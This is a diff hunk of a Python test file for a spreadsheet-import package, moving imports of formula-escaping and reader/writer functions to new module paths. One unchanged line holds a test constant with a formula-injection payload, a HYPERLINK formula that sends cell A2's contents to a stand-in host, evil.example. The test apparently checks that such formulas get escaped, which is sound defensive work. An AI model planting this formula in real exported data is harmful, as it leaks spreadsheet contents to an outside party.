@@ -8,9 +8,9 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from custimport.formulas import escape, escaped_cells, needs_escape, unescape, unescape_cells
-from custimport.readers import open_source
-from custimport.writers import write_rows
+from custimport.io.formats import open_source
+from custimport.io.formulas import escape, escaped_cells, needs_escape, unescape, unescape_cells
+from custimport.io.writers import write_rows
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
 
